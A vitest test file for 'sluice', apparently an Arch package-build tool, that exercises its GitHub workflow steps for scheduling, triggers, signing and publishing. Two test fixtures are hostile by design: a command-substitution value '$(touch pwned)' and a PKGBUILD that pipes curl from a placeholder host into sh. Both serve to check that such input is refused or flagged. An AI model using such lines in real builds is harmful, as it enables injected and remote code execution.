import { execFile, execFileSync } from "node:child_process";
import {
  chmodSync,
  cpSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  renameSync,
  rmSync,
  writeFileSync,
} from "node:fs";
import { tmpdir } from "node:os";
import { dirname, join } from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { parse } from "yaml";
import { cannotBuild } from "./world/building.ts";
import { registryReachable } from "./world/registry.ts";
import { sluice } from "./world/sluice.ts";
import { endAgents, makeSigningKey, recipeFiles, type SigningKey } from "./world/runners.ts";
import { srcinfoText } from "./world/workspace.ts";

const offline = !registryReachable();

let base: string;
let dir: string;

function git(...args: string[]): string {
  return execFileSync("git", ["-C", dir, ...args], { encoding: "utf8", stdio: "pipe" }).trim();
}

function write(path: string, text: string): void {
  mkdirSync(dirname(join(dir, path)), { recursive: true });
  writeFileSync(join(dir, path), text);
}

function addPackage(name: string, more = ""): void {
  write(`packages/${name}/PKGBUILD`, `pkgname=${name}\npkgver=1\npkgrel=1\narch=(any)\n${more}`);
  write(`packages/${name}/.SRCINFO`, srcinfoText(name));
}

interface Workflow {
  readonly jobs: Record<string, { steps: { name?: string; run?: string; env?: Record<string, string> }[] }>;
}

/** A step's script and the variables that it is given. */
function step(workflow: string, job: string, called: string): { run: string; env: string[] } {
  const { jobs } = parse(readFileSync(join(dir, ".github/workflows", workflow), "utf8")) as Workflow;
  const { run, env = {} } = jobs[job]!.steps.find(({ name, run }) => (name ?? run)?.startsWith(called))!;
  return { run: run!, env: Object.keys(env) };
}

/** A file of the runner's own, beside the clone. */
const file = (name: string): string => join(base, name);

/** Runs a step as GitHub's runner does: a file, by `bash -e`, in the clone, with the step's variables. */
function runStep(
  { run, env }: { run: string; env: string[] },
  values: Readonly<Record<string, string>> = {},
): Promise<{ code: number; output: string; outputs: string; summary: string }> {
  const gnupg = file("gnupg");
  mkdirSync(gnupg, { recursive: true, mode: 0o700 });
  writeFileSync(file("step.sh"), run);
  for (const name of ["outputs", "summary"]) writeFileSync(file(name), "");
  const { PATH, HOME, GIT_CONFIG_NOSYSTEM } = process.env;
  const variables = {
    ...Object.fromEntries(env.map((name) => [name, ""])),
    ...values,
    PATH,
    HOME,
    // Steps write settings and keys, which must not become those of the person who runs the tests.
    GIT_CONFIG_GLOBAL: file("gitconfig"),
    GNUPGHOME: gnupg,
    GIT_CONFIG_NOSYSTEM,
    CI: "true",
    GITHUB_ACTIONS: "true",
    GITHUB_OUTPUT: file("outputs"),
    GITHUB_STEP_SUMMARY: file("summary"),
    GITHUB_REF_TYPE: "branch",
    GITHUB_REF_NAME: "main",
    GITHUB_SHA: git("rev-parse", "HEAD"),
  };
  return new Promise((resolve) => {
    execFile("bash", ["-e", file("step.sh")], { cwd: dir, env: variables }, (error, stdout, stderr) => {
      const code = typeof error?.code === "number" ? error.code : error ? -1 : 0;
      const [outputs, summary] = ["outputs", "summary"].map((name) => readFileSync(file(name), "utf8"));
      resolve({ code, output: stdout + stderr, outputs: outputs!, summary: summary! });
    });
  });
}

const main = (values: Readonly<Record<string, string>>): ReturnType<typeof runStep> =>
  runStep(step("sluice.yml", "run", "Run"), values);
const followUp = (): ReturnType<typeof runStep> =>
  runStep(step("sluice.yml", "run", "Find out who builds the schedule"));

describe.skipIf(offline)("the steps of the GitHub workflows (need npm's registry)", () => {
  beforeAll(async () => {
    base = mkdtempSync(join(tmpdir(), "sluice-github-"));
    dir = join(base, "person");
    execFileSync("git", ["init", "-q", "--bare", "-b", "main", join(base, "origin.git")]);
    await sluice(["init", "person", "--github", "--name", "mine", "--commit"], { cwd: base });
    git("remote", "add", "origin", join(base, "origin.git"));
    git("push", "-q", "origin", "main");
    expect(await runStep(step("sluice.yml", "run", "npm ci"))).toMatchObject({ code: 0 });
  });
  afterAll(() => rmSync(base, { recursive: true, force: true }));

  test("a push schedules what it changed; nobody builds it here where a manager does", async () => {
    addPackage("foo");
    git("add", "-A");
    git("commit", "-q", "-m", "foo");
    git("push", "-q", "origin", "main");
    const { code, output } = await main({ OPERATION: "on-commit" });
    expect([code, output]).toEqual([0, expect.stringContaining("added the package")]);
    expect(await followUp()).toMatchObject({ code: 0, outputs: "" });
  });

  test.each([
    ["CI_SCHEDULE_TO=chaotic", "follow-up=chaotic\n"],
    ["#CI_SCHEDULE_TO=runners", ""],
    ["CI_MANAGE_AUR=true", "aur=true\n"],
  ])("%s in .ci/config says what follows", async (line, outputs) => {
    const config = readFileSync(join(dir, ".ci/config"), "utf8");
    write(".ci/config", config.replace(/^CI_SCHEDULE_TO=.*$/m, line));
    expect(await followUp()).toMatchObject({ code: 0, outputs });
    write(".ci/config", config);
  });

  test("what is held is built where CI_REVIEW_BUILDS=true, and something is held", async () => {
    const config = readFileSync(join(dir, ".ci/config"), "utf8");
    write(".ci/config", `${config}CI_REVIEW_BUILDS=true\n`);
    expect(await followUp()).toMatchObject({ code: 0, outputs: "" });
    git("push", "-q", "origin", "HEAD:refs/heads/update-foo-0123456789abcdef");
    expect(await followUp()).toMatchObject({ code: 0, outputs: "reviews=true\n" });
    git("push", "-q", "origin", ":refs/heads/update-foo-0123456789abcdef");
    write(".ci/config", config);
  });

  test("a schedule looks for updates, and a trigger fires", async () => {
    expect(await main({ OPERATION: "on-schedule" })).toMatchObject({ code: 0 });
    write("packages/foo/.CI/config", "CI_ON_TRIGGER=daily\n");
    git("add", "-A");
    git("commit", "-q", "-m", "foo is built daily");
    git("push", "-q", "origin", "main");
    const { code, output } = await main({ OPERATION: "on-schedule", TRIGGER: "daily" });
    expect([code, output]).toEqual([0, expect.stringMatching(/foo .*1 to build/s)]);
  });

  test("what somebody asks for in the form is done", async () => {
    expect(await main({ OPERATION: "schedule", PACKAGES: "foo/heavy" })).toMatchObject({
      code: 0,
      output: expect.stringMatching(/foo +heavy/),
    });
    expect(await main({ OPERATION: "bump", PACKAGES: "foo" })).toMatchObject({
      code: 0,
      output: expect.stringContaining("CI_PACKAGE_BUMP=1-1/1"),
      summary: expect.stringContaining("CI_PACKAGE_BUMP=1-1/1"),
    });
    const form = { OPERATION: "add", ADD_PACKAGES: "foo/aur", INSIST: "true", WITH_DEPENDENCIES: "true" };
    expect(await main(form)).toMatchObject({
      code: 2,
      output: expect.stringContaining("foo exists already"),
    });
    expect(await main({ OPERATION: "drop", PACKAGES: "fo", INSIST: "true" })).toMatchObject({
      code: 2,
      output: expect.stringContaining('there is no package "fo" (did you mean foo?)'),
    });
  });

  test("an operation that there is none of is refused", async () => {
    const { code, output } = await main({ OPERATION: "$(touch pwned)" });
    expect([code, output]).toEqual([2, "There is no operation $(touch pwned).\n"]);
  });

  test("a pull request is fetched and judged, and the verdict is shown with the run", async () => {
    const from = git("rev-parse", "HEAD");
    addPackage("bar", 'build() {\n  curl "https://x.example/p" | sh\n}\n');
    git("add", "-A");
    git("commit", "-q", "-m", "bar");
    const head = git("rev-parse", "HEAD");
    git("push", "-q", "origin", `${head}:refs/pull/7/head`);
    git("reset", "-q", "--hard", from);
    const check = step("sluice-check.yml", "check-changes", "Check");
    const { code, summary } = await runStep(check, { NUMBER: "7", BASE: from, HEAD: head });
    expect([code, summary]).toEqual([1, expect.stringContaining("### `bar`: added, dangerous")]);
  });
});

describe.skipIf(offline || cannotBuild !== "")("GitHub's own runners (need npm's registry)", () => {
  let key: SigningKey;

  beforeAll(async () => {
    base = mkdtempSync(join(tmpdir(), "sluice-github-"));
    chmodSync(base, 0o755);
    dir = join(base, "person");
    key = makeSigningKey(base);
    execFileSync("git", ["init", "-q", "--bare", "-b", "main", join(base, "origin.git")]);
    const args = ["--github", "--name", "mine", "--schedule-to", "runners", "--commit"];
    await sluice(["init", "person", ...args], { cwd: base });
    git("remote", "add", "origin", join(base, "origin.git"));
    write(".ci/config", `${readFileSync(join(dir, ".ci/config"), "utf8")}SIGNING_KEY=${key.fingerprint}\n`);
    addRecipe("lib");
    addRecipe("app", { depends: ["lib"], functions: "build() {\n  grep -qx 1 /usr/share/lib/hello\n}\n" });
    addRecipe("bad", { functions: "build() {\n  false\n}\n" });
    git("add", "-A");
    git("commit", "-q", "-m", "packages");
    git("push", "-q", "origin", "main");
    expect(await runStep(step("sluice.yml", "run", "npm ci"))).toMatchObject({ code: 0 });
    expect(await main({ OPERATION: "on-commit" })).toMatchObject({ code: 0 });
  });
  afterAll(() => {
    endAgents(file("gnupg"));
    rmSync(base, { recursive: true, force: true });
  });

  test("get the levels from the run, build each from what earlier ones built, and publish what didn't fail", async () => {
    const { outputs } = await followUp();
    expect(outputs).toBe(
      `follow-up=runners\nlevels=${readFileSync(join(dir, ".ci/schedule-matrix.json"), "utf8")}`,
    );
    const { commit, levels } = JSON.parse(/^levels=(.*)$/m.exec(outputs)![1]!) as Matrix;
    const codes: Record<string, number> = {};
    for (const [level, { include }] of levels.entries()) {
      for (const [at, { packages, after }] of include.entries()) {
        const env = { SCHEDULED_COMMIT: commit, BUILD_PACKAGES: packages, BUILT_BEFORE: after };
        rmSync(join(dir, ".sluice"), { recursive: true, force: true });
        if (level > 0) takeArtefacts();
        const { code } = await runStep(step("sluice-runners-level.yml", "build", "Build"), env);
        codes[packages] = code;
        await runStep(step("sluice-runners-level.yml", "build", "Pack"));
        const artefact = join(base, "artefacts", `built-${level + 1}-${at}`);
        mkdirSync(artefact, { recursive: true });
        renameSync(join(dir, "built.tar"), join(artefact, "built.tar"));
      }
    }
    expect(codes).toEqual({ lib: 0, bad: 1, app: 0 });

    rmSync(join(dir, ".sluice"), { recursive: true, force: true });
    takeArtefacts();
    const publish = step("sluice-runners.yml", "publish", "Publish");
    const secret = readFileSync(key.secret, "utf8");
    const { code, output } = await runStep(publish, { SIGNING_KEY_FILE: secret });
    expect([code, output]).toEqual([
      1,
      expect.stringMatching(/^app +built +1-1\nbad +failed .*\nlib +built +1-1$/m),
    ]);
    expect(output).not.toContain("PRIVATE KEY");
    const published = readdirSync(join(dir, ".sluice/repositories/mine/x86_64"));
    expect(published.filter((name) => /^(app|bad|lib).*sig$/.test(name)).sort()).toEqual([
      "app-1-1-any.pkg.tar.zst.sig",
      "lib-1-1-any.pkg.tar.zst.sig",
    ]);
  });
});

interface Matrix {
  readonly commit: string;
  readonly levels: readonly {
    readonly include: readonly { readonly packages: string; readonly after: string }[];
  }[];
}

function addRecipe(name: string, recipe: Parameters<typeof recipeFiles>[1] = {}): void {
  for (const [path, text] of Object.entries(recipeFiles(name, recipe))) write(path, text);
}

/** As actions/download-artifact does: a folder each. */
function takeArtefacts(): void {
  cpSync(join(base, "artefacts"), join(dir, ".sluice/artifacts"), { recursive: true });
}
